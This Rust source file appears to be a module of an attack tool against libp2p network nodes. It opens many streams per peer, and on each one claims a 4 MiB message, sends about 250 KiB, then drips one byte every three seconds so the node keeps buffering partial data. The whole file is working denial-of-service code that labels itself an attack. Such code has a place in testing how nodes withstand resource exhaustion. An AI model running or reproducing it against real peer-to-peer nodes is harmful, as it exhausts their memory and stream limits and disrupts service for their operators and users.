//! Streams that each begin a message of 4 MiB and let it drip: what was read of them is held meanwhile.

use std::sync::Arc;
use std::time::Duration;

use clap::Args;
use futures::AsyncWriteExt;
use libp2p::swarm::Stream;

use crate::script::{Script, varint};
use crate::{ATTACKING, Crowd};

/// The length that each message claims.
const CLAIMED: usize = 4 << 20;
/// Bytes of it that are sent at once: nearly all that a new stream may carry before it is read.
const AT_ONCE: usize = 250 << 10;
const OPENING: Duration = Duration::from_secs(5);
const DRIP: Duration = Duration::from_secs(3);

#[derive(Args)]
pub struct Options {
    #[command(flatten)]
    crowd: Crowd,

    /// The streams of each peer.
    #[arg(long, default_value_t = 250)]
    streams: usize,
}

impl Options {
    /// Open them all, and drip.
    pub async fn run(self) {
        let streams = self.streams;
        self.crowd.attack(move |peer| open_all(peer, streams)).await;
    }
}

async fn open_all(peer: Arc<Script>, count: usize) {
    let mut dripping = tokio::task::JoinSet::new();
    let open = async {
        for _ in 0..count {
            // A node that closes the connection meanwhile ends the attack of this peer.
            let Some(stream) = peer.try_open().await else { break };
            dripping.spawn(drip(stream));
        }
    };
    // The node may refuse some of them, without a word.
    let _all_open = tokio::time::timeout(OPENING, open).await;
    println!("{ATTACKING}");
    dripping.join_all().await;
}

async fn drip(mut stream: Stream) -> std::io::Result<()> {
    stream.write_all(&varint(CLAIMED)).await?;
    stream.write_all(&vec![0; AT_ONCE]).await?;
    loop {
        stream.write_all(&[0]).await?;
        stream.flush().await?;
        tokio::time::sleep(DRIP).await;
    }
}
